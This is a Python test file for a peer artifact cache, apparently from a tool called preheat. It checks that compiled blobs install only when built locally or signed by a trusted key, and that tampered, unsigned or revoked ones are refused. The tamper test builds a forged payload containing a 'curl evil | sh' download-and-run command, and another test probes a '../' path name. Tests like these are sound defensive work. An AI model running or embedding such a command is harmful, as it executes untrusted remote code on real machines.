"""Compiled artifacts are code: a replica installs only what it built itself or what a key it trusts signed, and
re-serves only what it verified. Real peer servers, a real ``file://`` registry, real key files."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

import pytest

from artifactkit import KEY, TOKEN, KeyPair, make_inductor_dir, make_keypair, member, peer_serving_file, tar_of
from preheat.artifacts import blobs as artifacts
from preheat.artifacts.signing import TrustedKeys, fingerprint, read_public_key
from preheat.artifacts.store import ArtifactStore, fetch
from preheat.checkpoint.manifest import MANIFEST_NAME, Manifest
from preheat.core.errors import ArtifactTrustError
from preheat.peer.server import PeerServer
from preheat.server.peering import find_artifacts


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, KeyPair]:
    root = tmp_path_factory.mktemp("keys")
    return {"fleet": make_keypair(root, "fleet.key"), "stranger": make_keypair(root, "stranger.key")}


@pytest.fixture
def unsigned(tmp_path: Path) -> bytes:
    return artifacts.pack(KEY, str(make_inductor_dir(tmp_path / "built")))


def _write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _find(store: ArtifactStore, registry: Path) -> tuple[artifacts.Verified | None, str, list[str]]:
    return find_artifacts(KEY, store, registry=f"file://{registry}", identity=KEY.identity, token=TOKEN)


def _find_offered(
    store: ArtifactStore, blob: bytes, kv_model: Path, tmp_path: Path
) -> tuple[artifacts.Verified | None, str, list[str]]:
    """What ``store`` finds while the one peer in a ``file://`` registry offers ``blob``."""
    with peer_serving_file(kv_model, _write(tmp_path / "offer.blob", blob), tmp_path / "reg"):
        return _find(store, tmp_path / "reg")


def test_an_unsigned_blob_from_a_peer_is_refused_with_how_to_enable(
    tmp_path: Path, kv_model: Path, unsigned: bytes, keys: dict[str, KeyPair]
) -> None:
    store = ArtifactStore(str(tmp_path / "newcomer"), keys["fleet"].trusted)
    found, _, refused = _find_offered(store, unsigned, kv_model, tmp_path)
    assert found is None
    assert len(refused) == 1
    assert "artifacts are not signed; refused" in refused[0]
    assert "preheat artifacts keygen" in refused[0]
    assert "--trust-key" in refused[0]
    assert store.lookup(KEY.hex) is None
    assert not (tmp_path / "newcomer" / "compiled").exists()


def test_without_a_trusted_key_peers_are_not_even_asked(
    tmp_path: Path, kv_model: Path, unsigned: bytes, keys: dict[str, KeyPair]
) -> None:
    signed = artifacts.sign(unsigned, keys["fleet"].signer, where="test")
    with peer_serving_file(kv_model, _write(tmp_path / "offer.blob", signed), tmp_path / "reg") as peer:
        found, _, refused = _find(ArtifactStore(str(tmp_path / "newcomer")), tmp_path / "reg")
        assert peer.bytes_sent == 0
    assert found is None
    assert "no --trust-key given" in refused[0]
    assert "preheat artifacts keygen" in refused[0]


def test_a_blob_signed_by_an_untrusted_key_is_refused(
    tmp_path: Path, kv_model: Path, unsigned: bytes, keys: dict[str, KeyPair]
) -> None:
    signed = artifacts.sign(unsigned, keys["stranger"].signer, where="test")
    store = ArtifactStore(str(tmp_path / "newcomer"), keys["fleet"].trusted)
    found, _, refused = _find_offered(store, signed, kv_model, tmp_path)
    assert found is None
    stranger = fingerprint(read_public_key(str(keys["stranger"].public)))
    assert f"signed by {stranger}, which is not a trusted key" in refused[0]
    assert "--trust-key" in refused[0]
    assert store.lookup(KEY.hex) is None


def test_a_blob_signed_by_a_trusted_key_installs(
    tmp_path: Path, kv_model: Path, unsigned: bytes, keys: dict[str, KeyPair]
) -> None:
    signed = artifacts.sign(unsigned, keys["fleet"].signer, where="test")
    trusted = TrustedKeys(keys["stranger"].trusted.keys | keys["fleet"].trusted.keys)
    store = ArtifactStore(str(tmp_path / "newcomer"), trusted)
    with peer_serving_file(kv_model, _write(tmp_path / "offer.blob", signed), tmp_path / "reg") as peer:
        found, source, refused = _find(store, tmp_path / "reg")
    assert found is not None
    assert refused == []
    assert source == f"peer {peer.address}"
    fleet = fingerprint(read_public_key(str(keys["fleet"].public)))
    assert found.provenance == f"signed by {fleet}"
    artifacts.install(found, str(tmp_path / "inductor"), where=source)
    assert (tmp_path / "inductor" / "fxgraph" / "ab" / "entry").read_bytes() == b"graph" * 100


def test_a_tampered_payload_with_a_recomputed_checksum_is_refused(
    tmp_path: Path, unsigned: bytes, keys: dict[str, KeyPair]
) -> None:
    signed = artifacts.sign(unsigned, keys["fleet"].signer, where="test")
    trailer = signed[len(unsigned) :]  # the builder's signature, kept by the attacker
    evil = tar_of((member("fxgraph/ab/entry"), b"import os; os.system('curl evil | sh')"))
    forged = artifacts.encode(KEY, evil) + trailer  # header sha256 and size describe the new payload
    assert artifacts.parse(forged, where="test").signer == artifacts.parse(signed, where="test").signer
    with pytest.raises(ArtifactTrustError, match="does not match its contents"):
        artifacts.verify(forged, KEY, keys["fleet"].trusted, where="peer x")
    with pytest.raises(ArtifactTrustError, match="not signed"):  # or the signature simply left off
        artifacts.verify(artifacts.encode(KEY, evil), KEY, keys["fleet"].trusted, where="peer x")


def test_a_peer_does_not_reserve_an_unverified_blob(
    tmp_path: Path, kv_model: Path, unsigned: bytes, keys: dict[str, KeyPair]
) -> None:
    store = ArtifactStore(str(tmp_path / "b"), keys["fleet"].trusted)
    assert _find_offered(store, unsigned, kv_model, tmp_path)[0] is None  # refused: nothing kept
    # ...and one that landed in the cache anyway (as format 1 kept every blob it received) is not served either.
    _write(Path(store.blob_path(KEY.hex)), unsigned)
    manifest = Manifest.from_json((kv_model / MANIFEST_NAME).read_bytes(), where=str(kv_model))
    with PeerServer(kv_model, manifest, token=TOKEN, artifacts=store.lookup) as b:
        assert fetch(b.address, KEY, token=TOKEN) is None
    with pytest.raises(ArtifactTrustError):
        store.load(KEY)


def test_a_verified_blob_is_reserved_and_verifies_at_the_next_peer(
    tmp_path: Path, kv_model: Path, unsigned: bytes, keys: dict[str, KeyPair]
) -> None:
    signed = artifacts.sign(unsigned, keys["fleet"].signer, where="test")
    b_store = ArtifactStore(str(tmp_path / "b"), keys["fleet"].trusted)
    found, _, _ = _find_offered(b_store, signed, kv_model, tmp_path)
    assert found is not None
    b_store.put(found)
    manifest = Manifest.from_json((kv_model / MANIFEST_NAME).read_bytes(), where=str(kv_model))
    with PeerServer(kv_model, manifest, token=TOKEN, artifacts=b_store.lookup) as b:
        raw = fetch(b.address, KEY, token=TOKEN)
    assert raw == signed
    assert artifacts.verify(raw, KEY, keys["fleet"].trusted, where="peer b").provenance == found.provenance


def test_a_key_no_longer_trusted_stops_installs_and_reserving(
    tmp_path: Path, unsigned: bytes, keys: dict[str, KeyPair]
) -> None:
    signed = artifacts.sign(unsigned, keys["fleet"].signer, where="test")
    ArtifactStore(str(tmp_path / "b"), keys["fleet"].trusted).put(
        artifacts.verify(signed, KEY, keys["fleet"].trusted, where="peer a")
    )
    revoked = ArtifactStore(str(tmp_path / "b"), keys["stranger"].trusted)
    with pytest.raises(ArtifactTrustError, match="not a trusted key"):
        revoked.load(KEY)
    assert revoked.lookup(KEY.hex) is None


def test_a_node_cache_blob_no_longer_trusted_is_discarded_with_what_it_installed(
    tmp_path: Path, unsigned: bytes, keys: dict[str, KeyPair]
) -> None:
    signed = artifacts.sign(unsigned, keys["fleet"].signer, where="test")
    trusting = ArtifactStore(str(tmp_path / "b"), keys["fleet"].trusted)
    found = artifacts.verify(signed, KEY, keys["fleet"].trusted, where="peer a")
    trusting.put(found)
    artifacts.install(found, trusting.inductor_dir(KEY), where="peer a")
    revoked = ArtifactStore(str(tmp_path / "b"), keys["stranger"].trusted)
    again, _, refused = find_artifacts(KEY, revoked, registry=None, identity=KEY.identity, token=None)
    assert again is None
    assert "not a trusted key" in refused[0]
    assert not Path(revoked.blob_path(KEY.hex)).exists()
    assert not Path(revoked.inductor_dir(KEY)).exists()


def test_a_blob_built_on_this_node_installs_and_is_served_without_any_key(
    tmp_path: Path, unsigned: bytes, keys: dict[str, KeyPair]
) -> None:
    store = ArtifactStore(str(tmp_path / "node"))
    store.put(artifacts.built_here(KEY, unsigned))
    again = ArtifactStore(str(tmp_path / "node"))  # a restarted replica, no --trust-key
    found = again.load(KEY)
    assert found is not None
    assert found.provenance == artifacts.BUILT_HERE
    assert again.lookup(KEY.hex) == again.blob_path(KEY.hex)
    # Signing what it built (preheat artifacts sign) keeps it installable here, whoever else trusts the key.
    signed = artifacts.sign(unsigned, keys["stranger"].signer, where="test")
    again.put(artifacts.verify(signed, KEY, TrustedKeys(), where="test", built_here=found.body_sha256))
    reloaded = ArtifactStore(str(tmp_path / "node")).load(KEY)
    assert reloaded is not None
    assert reloaded.local
    assert reloaded.blob == signed


def test_a_served_blob_replaced_on_disk_is_checked_again(tmp_path: Path, unsigned: bytes) -> None:
    store = ArtifactStore(str(tmp_path / "node"))
    store.put(artifacts.built_here(KEY, unsigned))
    assert store.lookup(KEY.hex) == store.blob_path(KEY.hex)
    swapped = tmp_path / "swapped.blob"
    swapped.write_bytes(artifacts.encode(KEY, tar_of((member("x"), b"other"))))
    os.replace(swapped, store.blob_path(KEY.hex))  # a new file: the earlier verdict does not apply to it
    assert store.lookup(KEY.hex) is None
    assert store.lookup("../" + KEY.hex[3:]) is None  # names that are not keys are never paths


def test_the_built_here_record_vouches_for_one_body_only(tmp_path: Path, unsigned: bytes) -> None:
    store = ArtifactStore(str(tmp_path / "node"))
    store.put(artifacts.built_here(KEY, unsigned))
    other = io.BytesIO()
    with tarfile.open(fileobj=other, mode="w") as tar:
        tar.addfile(member("x"), io.BytesIO(b""))
    Path(store.blob_path(KEY.hex)).write_bytes(artifacts.encode(KEY, other.getvalue()))  # swapped under the record
    with pytest.raises(ArtifactTrustError, match="not signed"):
        store.load(KEY)
    assert store.lookup(KEY.hex) is None


def test_a_refused_node_cache_blob_falls_back_to_a_trusted_peer(
    tmp_path: Path, kv_model: Path, unsigned: bytes, keys: dict[str, KeyPair]
) -> None:
    store = ArtifactStore(str(tmp_path / "b"), keys["fleet"].trusted)
    _write(Path(store.blob_path(KEY.hex)), unsigned)  # planted, unsigned, no built-here record
    signed = artifacts.sign(unsigned, keys["fleet"].signer, where="test")
    found, source, refused = _find_offered(store, signed, kv_model, tmp_path)
    assert found is not None
    assert source.startswith("peer ")
    assert len(refused) == 1
    assert "not signed" in refused[0]
